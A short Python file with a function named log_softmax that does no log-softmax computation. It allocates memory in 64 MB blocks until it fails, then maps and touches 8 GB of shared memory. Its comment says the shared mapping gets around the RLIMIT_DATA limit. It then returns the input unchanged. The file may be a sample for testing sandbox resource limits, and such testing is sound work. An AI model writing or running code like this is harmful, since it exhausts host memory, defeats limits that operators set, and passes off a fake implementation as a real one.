# log_softmax allocates memory until it fails (RLIMIT_DATA/RLIMIT_AS stop it at a few GB), then
# tries shared memory, which RLIMIT_DATA does not count (RLIMIT_AS does).
import mmap


def log_softmax(logits):
    hog = []
    try:
        while True:
            hog.append(bytearray(64 * 2 ** 20))
    except MemoryError:
        pass
    del hog
    shared = mmap.mmap(-1, 8 * 2 ** 30)  # 8 GB of shared anonymous memory
    for i in range(0, len(shared), 2 ** 20):
        shared[i] = 1
    return logits
